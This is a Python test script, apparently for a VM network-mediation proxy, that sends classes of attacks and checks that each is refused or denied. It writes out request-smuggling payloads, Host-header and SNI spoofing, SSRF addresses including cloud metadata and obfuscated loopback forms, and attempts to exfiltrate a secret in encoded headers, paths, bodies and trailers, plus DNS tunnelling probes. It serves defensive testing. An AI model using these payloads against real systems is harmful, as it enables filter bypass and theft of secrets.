"""What e2e/attacks.sh runs in the guest: attacks on the mediation, by the classes that are numbered
there. Each is sent whole and with one byte per segment. A request that must not reach the witness
says `never`, which is looked for there; what comes back is checked here.

attacks_guest.py PLAIN SITE EXPIRED WRONG SELF MUTUAL (ports) and the value of the secret KNOWN."""
import base64
import gzip
import hashlib
import os
import re
import socket
import ssl
import struct
import sys
import time
import urllib.parse

PLAIN, SITE, EXPIRED, WRONG, SELF, MUTUAL = map(int, sys.argv[1:7])
KNOWN = sys.argv[7].encode()
KEY = os.environ["KEY"].encode()
ANYWHERE = "198.51.100.7"  # the name decides, not the address
SECONDS = 60
RESET = None
OK = rb"^HTTP/1\.1 200 OK.*?\r\n\r\n(?:\d\r\n)?o(?:\r\n\d\r\n)?k(?:\r\n0\r\n\r\n)?"
REFUSED = rb"^HTTP/1\.1 (4\d\d|501) .*"
DENIED = rb"^HTTP/1\.1 403 .*x-vmdeck-verdict: deny"
bad = 0


def make_context(check):
    context = ssl.create_default_context(cafile="/run/vmdeck/ca.crt")  # the whole bundle takes long
    context.check_hostname = check
    return context


TLS = make_context(True)


class Connection:
    """TCP, or TLS whose records are cut anywhere."""

    def __init__(self, port, sni, step, address=ANYWHERE, **tls):
        self.step, self.tls, self.got = step, None, b""
        self.socket = socket.create_connection((address, port), SECONDS)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if sni is not None:
            context = TLS if sni and not tls else make_context(bool(sni))
            if "alpn" in tls:
                context.set_alpn_protocols(tls["alpn"])
            if "highest" in tls:
                context.minimum_version = ssl.TLSVersion.TLSv1
                context.maximum_version = tls["highest"]
                context.set_ciphers("ALL:@SECLEVEL=0")
            self.inside, self.outside = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = context.wrap_bio(self.inside, self.outside, server_hostname=sni or None)
            self.pump(self.tls.do_handshake)

    def push(self, data):
        for i in range(0, len(data), self.step or max(len(data), 1)):
            self.socket.sendall(data[i:i + self.step] if self.step else data)

    def pump(self, action):
        while True:
            try:
                result = action()
                self.push(self.outside.read())
                return result
            except ssl.SSLWantReadError:
                self.push(self.outside.read())
                data = self.socket.recv(65536)
                if not data:
                    raise ConnectionResetError("the end") from None
                self.inside.write(data)

    def send(self, data):
        if self.tls is None:
            self.push(data)
        else:
            self.tls.write(data)
            self.push(self.outside.read())

    def read(self):
        if self.tls is None:
            return self.socket.recv(65536)
        try:
            return self.pump(lambda: self.tls.read(65536))
        except ssl.SSLZeroReturnError:
            return b""

    def until(self, pattern):
        """What has come when it fits; or all, with False, when the connection is over."""
        while not re.search(pattern, self.got, re.S):
            data = self.read()
            if not data:
                return False
            self.got += data
        return True


def report(name, step, good, got):
    global bad
    if not good:
        bad += 1
        print("BAD %s (step %s): %r" % (name, step, got[:600]))


def run(name, request, want, sni=None, port=None, **more):
    """One connection: the request (or several, sent one after the other), the answer."""
    port = port or (PLAIN if sni is None else SITE)
    requests = request if isinstance(request, list) else [request]
    wants = want if isinstance(want, list) else [want]
    for step in (None, 1):
        began = time.monotonic()
        connection, got = None, b""
        try:
            connection = Connection(port, sni, step, **more)
            good = True
            for one, expected in zip(requests, wants):
                connection.got = b""
                connection.send(one.replace(b"{P}", b"%d" % port))
                good = good and (connection.until(expected) if expected is not RESET else
                                 not connection.until(rb"HTTP/1\.1 [1235]"))
            got = connection.got
        except (ssl.SSLError, OSError) as error:
            good, got = wants[-1] is RESET and not isinstance(error, TimeoutError), repr(error).encode()
        report(name, step, good, got)
        if connection:
            connection.socket.close()
        if time.monotonic() - began > 10:
            print("SLOW %s (step %s): %.1f s" % (name, step, time.monotonic() - began))


def get(host, path=b"/ok", extra=b"", target=None):
    return (b"GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" %
            (target or path, host, extra))


def post(host, path, body, extra=b""):
    return (b"POST %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nContent-Length: %d\r\n%s\r\n%s" %
            (path, host, len(body), extra, body))


def identity():
    run("1 name in the address's place", get(b"site.test:{P}"), OK)
    run("1 upper case and a dot", get(b"SITE.Test.:{P}"), OK)
    run("1 TLS", get(b"site.test:{P}"), OK, "site.test")
    for name, host in {"denied": b"evil.test:{P}", "below": b"a.evil.test:{P}",
                       "user": b"site.test:{P}@evil.test", "user first": b"evil.test@site.test:{P}",
                       "empty": b"", "port": b"site.test:1", "no port": b"site.test:",
                       "blank": b"site.test evil.test", "list": b"site.test:{P}, evil.test",
                       "wide": b"s\xc3\xafte.test:{P}", "percent": b"%73ite.test:{P}",
                       "slash": b"site.test:{P}/x", "NUL": b"site.test\0.evil.test"}.items():
        run("1 Host: " + name, get(host, b"/never"), REFUSED)
    run("1 two Hosts", get(b"site.test:{P}", b"/never", b"Host: evil.test\r\n"), REFUSED)
    run("1 no Host", b"GET /never HTTP/1.1\r\n\r\n", REFUSED)
    run("1 absolute", get(b"site.test:{P}", target=b"http://evil.test:{P}/never"), REFUSED)
    run("1 absolute and Host denied", get(b"evil.test:{P}", target=b"http://site.test:{P}/never"),
        REFUSED)
    run("1 absolute, another scheme", get(b"site.test:{P}", target=b"ftp://site.test:{P}/never"),
        REFUSED)
    run("1 SNI against Host", get(b"evil.test:{P}", b"/never"), REFUSED, "site.test")
    run("1 SNI denied", get(b"site.test:{P}", b"/never"), REFUSED, "evil.test")


def sharing():
    keep = b"GET %s HTTP/1.1\r\nHost: %s:{P}\r\n\r\n"
    run("2 kept open", [keep % (b"/ok", b"site.test"), keep % (b"/never", b"evil.test"),
                        keep % (b"/ok", b"two.test")], [OK, DENIED, OK])
    run("2 another host in TLS", [keep % (b"/ok", b"site.test"), keep % (b"/never", b"two.test")],
        [OK, REFUSED], "site.test")
    run("2 HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", RESET)
    connection = Connection(SITE, "site.test", None)
    names = connection.tls.getpeercert()["subjectAltName"]
    report("2 a leaf of one name", None, names == (("DNS", "site.test"),), repr(names).encode())
    connection.socket.close()


def binary():
    body = gzip.compress(bytes(range(256)) * 64, mtime=0) + bytes(range(256))
    answer = hashlib.sha256(body).hexdigest().encode()
    key = b"Authorization: Bearer " + KEY + b"\r\n"
    run("3 body", post(b"site.test:{P}", b"/sha", body, key), answer, "site.test")
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 7]), body[i:i + 7])
                      for i in range(0, len(body), 7))
    run("3 chunks", b"POST /sha HTTP/1.1\r\nHost: site.test:{P}\r\n" + key +
        b"Transfer-Encoding: chunked\r\n\r\n" + chunks + b"0\r\n\r\n", answer, "site.test")
    run("3 answer", get(b"site.test:{P}", b"/blob", key),
        re.escape(bytes(range(256)) * 2) + b".*" + re.escape(bytes(range(256))), "site.test")


def splits():
    keep = b"GET %s HTTP/1.1\r\nHost: %s:{P}\r\n\r\n"
    run("4 pipeline", keep % (b"/ok", b"site.test") + keep % (b"/never", b"evil.test"),
        OK + rb"HTTP/1\.1 403 ")
    inner = b"GET /inner HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    run("4 a request for a body", post(b"site.test:{P}", b"/sha", inner),
        hashlib.sha256(inner).hexdigest().encode())
    smuggled = b"\r\nTransfer-Encoding: %s\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /never HTTP/1.1"
    head = b"POST /never HTTP/1.1\r\nHost: site.test:{P}"
    for name, rest in {
            "both lengths": smuggled % b"chunked", "chunked twice": smuggled % b"chunked, chunked",
            "other coding": smuggled % b"xchunked", "blank before": b"\r\nTransfer-Encoding : chunked\r\n\r\n",
            "folded": b"\r\nTransfer-Encoding:\r\n chunked\r\n\r\n", "lone LF": b"\nX: y\r\n\r\n",
            "lone CR": b"\r\nX: a\rHost: evil.test\r\n\r\n",
            "two lengths": b"\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
            "signed length": b"\r\nContent-Length: +2\r\n\r\nab",
            "long length": b"\r\nContent-Length: 99999999999999999999999\r\n\r\n",
            "chunk size": b"\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n"}.items():
        if name == "chunk size":  # its head is good, and may be on its way
            run("4 " + name, (head + rest).replace(b"/never", b"/sha"), REFUSED)
        else:
            run("4 " + name, head + rest, REFUSED)
    run("4 an answer of two lengths", get(b"site.test:{P}", b"/smuggle"), rb"^HTTP/1\.1 502 ")


def encodings():
    basic = base64.b64encode(b"user:" + KEY)
    run("5 Basic", get(b"site.test:{P}", b"/basic", b"Authorization: Basic " + basic + b"\r\n"), OK,
        "site.test")
    run("5 placeholder elsewhere", get(b"two.test:{P}", b"/never", b"X: " + KEY + b"\r\n"), REFUSED,
        "two.test")
    run("5 placeholder in plain HTTP", get(b"site.test:{P}", b"/never", b"X: " + KEY + b"\r\n"),
        REFUSED)
    json_text = KNOWN.replace(b"/", b"\\/")
    for name, text in {"as it is": KNOWN, "base64": base64.b64encode(b"a" + KNOWN),
                       "percent": urllib.parse.quote(KNOWN, safe="").encode(),
                       "all percent": b"".join(b"%%%02x" % c for c in KNOWN)}.items():
        run("5 header: " + name, get(b"two.test:{P}", b"/never", b"X: " + text + b"\r\n"), REFUSED,
            "two.test")
        run("5 path: " + name, get(b"two.test:{P}", b"/never/" + text), REFUSED, "two.test")
    for name, text in {"as it is": KNOWN, "json": json_text, "base64": base64.b64encode(KNOWN)}.items():
        run("5 body: " + name, post(b"two.test:{P}", b"/leak", b'{"x":"' + text + b'"}'), REFUSED,
            "two.test")
        chunks = b"".join(b"1\r\n%c\r\n" % c for c in text)
        run("5 chunks: " + name, b"POST /leak HTTP/1.1\r\nHost: two.test:{P}\r\nTransfer-Encoding: "
            b"chunked\r\n\r\n" + chunks + b"0\r\n\r\n", REFUSED, "two.test")
    run("5 trailer", b"POST /leak HTTP/1.1\r\nHost: two.test:{P}\r\nTrailer: X\r\nTransfer-Encoding: "
        b"chunked\r\n\r\n0\r\nX: " + KNOWN + b"\r\n\r\n", REFUSED, "two.test")


def sizes():
    run("6 fields", get(b"site.test:{P}", b"/never", b"X: y\r\n" * 200), rb"^HTTP/1\.1 431 ")
    run("6 target", get(b"site.test:{P}", b"/never" + b"x" * 9000), rb"^HTTP/1\.1 4[13][14] ")
    run("6 value", get(b"site.test:{P}", b"/ok", b"X: " + KEY * 40 + b"\r\n"), OK, "site.test")
    for step in (None,):  # 70 KB in segments of one byte say nothing that less does not
        connection = Connection(PLAIN, None, step)
        connection.send(b"GET /never HTTP/1.1\r\nX: " + b"y" * 70000)
        report("6 no end", step, connection.until(rb"^HTTP/1\.1 431 "), connection.got)
        connection.socket.close()


def dns_query(name, kind):
    labels = b"".join(b"%c%s" % (len(label), label) for label in name.split(b".")) + b"\0"
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + struct.pack("!HH", kind, 1)


def names():
    """With synthetic answers no query leaves; that all are answered at once is what is left."""
    long = b".".join([b"x" * 63] * 3) + b".evil.test"
    for kind in (1, 10, 16, 28, 64, 65, 255):
        for server in ("192.168.127.1", "192.0.2.53"):
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.settimeout(SECONDS)
            udp.sendto(dns_query(long, kind), (server, 53))
            try:
                answer = udp.recv(2048)
            except OSError as error:
                report("7 type %d" % kind, server, False, repr(error).encode())
                continue
            count = struct.unpack("!H", answer[6:8])[0]
            report("7 type %d" % kind, server, answer[:2] == b"\x12\x34" and
                   count == (kind in (1, 255)), answer)
    for step in (None, 1):
        connection = Connection(53, None, step, address="192.0.2.53")
        query = dns_query(b"site.test", 1)
        connection.send(struct.pack("!H", len(query)) + query)
        report("7 TCP", step, connection.until(rb"^..\x12\x34.*\xc6[\x12\x13].."), connection.got)
        connection.socket.close()
    run("7 DoH", post(b"evil.test:{P}", b"/never", dns_query(long, 16),
                      b"Content-Type: application/dns-message\r\n"), DENIED, "evil.test")
    run("7 DoT", struct.pack("!H", 20) + b"x" * 20, REFUSED, "evil.test", 853)


def open_failures():
    run("8 CONNECT", b"CONNECT site.test:{P} HTTP/1.1\r\nHost: site.test:{P}\r\n\r\n", REFUSED)
    run("8 OPTIONS *", b"OPTIONS * HTTP/1.1\r\nHost: evil.test:{P}\r\n\r\n", REFUSED)
    run("8 SSH", b"SSH-2.0-OpenSSH_9.0\r\n", RESET)
    run("8 anything", b"\x7f\x03zzzz\r\n", RESET)


def reflection():
    key = b"Authorization: Bearer " + KEY + b"\r\n"
    for path in (b"/in-header", b"/in-body", b"/in-bytes", b"/in-chunks", b"/in-location"):
        expected = (rb"VMDECK_SECRET_[0-9a-f]{48}" if path != b"/in-chunks" and path != b"/in-bytes"
                    else rb"0\r\n\r\n$")
        run("9 " + path.decode(), get(b"site.test:{P}", path, key), expected, "site.test")
    run("9 gzip", get(b"site.test:{P}", b"/in-gzip", key), rb"^HTTP/1\.1 502 ", "site.test")


def addresses():
    for host in (b"127.0.0.1", b"[::1]", b"localhost", b"[::ffff:127.0.0.1]", b"[::127.0.0.1]",
                 b"[64:ff9b::7f00:1]", b"[2002:7f00:1::]", b"169.254.169.254", b"10.0.0.1",
                 b"192.168.127.1", b"100.64.0.1", b"224.0.0.1", b"0.0.0.0", b"127.1", b"0x7f000001",
                 b"2130706433", b"017700000001", b"127.0.0.01", b"[fe80::1%25eth0]", b"pub.test"):
        run("10 " + host.decode(), get(host + b":{P}", b"/never"), REFUSED)


def tunnels():
    upgrade = (b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
               b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")
    chat = b"GET %s HTTP/1.1\r\nHost: %s:{P}\r\n" + upgrade + b"\r\n"
    run("11 WebSocket", [chat % (b"/chat", b"site.test"), b"hello"],
        [rb"^HTTP/1\.1 101 .*\r\n\r\n", b"HELLO"])
    run("11 WebSocket denied", chat % (b"/never", b"evil.test"), DENIED)
    run("11 no upgrade after all", chat % (b"/ok", b"site.test") +
        b"GET /never HTTP/1.1\r\nHost: evil.test:{P}\r\n\r\n", OK + rb"HTTP/1\.1 403 ")
    run("11 nobody asked for 101", get(b"site.test:{P}", b"/101"), rb"^HTTP/1\.1 502 ")
    run("11 early answer", b"POST /early HTTP/1.1\r\nHost: site.test:{P}\r\nContent-Length: 1000000"
        b"\r\n\r\n", rb"^HTTP/1\.1 413 .*too large")
    run("11 Expect", b"POST /never HTTP/1.1\r\nHost: evil.test:{P}\r\nExpect: 100-continue\r\n"
        b"Content-Length: 5\r\n\r\n", DENIED)
    connection = Connection(SITE, "site.test", None)
    connection.send(get(b"site.test:%d" % SITE, b"/events"))
    first = connection.until(b"first")  # the second comes only when this one was seen
    run("11 go", get(b"site.test:{P}", b"/go"), OK)
    report("11 events", None, first and connection.until(b"second"), connection.got)
    connection.socket.close()


def tls():
    run("12 no SNI", get(b"site.test:{P}", b"/never"), RESET, "", SITE)
    run("12 ALPN", get(b"site.test:{P}"), OK, "site.test", alpn=["h2", "http/1.1"])
    run("12 TLS 1.1", get(b"site.test:{P}", b"/never"), RESET, "site.test",
        highest=ssl.TLSVersion.TLSv1_1)
    run("12 not TLS at all", b"\x16\x03\x01\xff\xff" + b"\xff" * 300, RESET)
    for name, port in {"expired": EXPIRED, "wrong": WRONG, "self": SELF, "mutual": MUTUAL}.items():
        run("12 " + name, get(b"site.test:{P}", b"/never"), rb"^HTTP/1\.1 502 ", "site.test", port)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.connect((ANYWHERE, 443))
    udp.settimeout(SECONDS)
    try:
        udp.send(b"\xc0" + b"\0" * 1199)
        udp.recv(1)
        report("12 QUIC", None, False, b"answered")
    except OSError as error:
        report("12 QUIC", None, isinstance(error, ConnectionRefusedError), repr(error).encode())


for attack in (identity, sharing, binary, splits, encodings, sizes, names, open_failures, reflection,
               addresses, tunnels, tls):
    before = time.monotonic()
    attack()
    print("%s: %.1f s" % (attack.__name__, time.monotonic() - before), flush=True)
print("bad: %d" % bad)
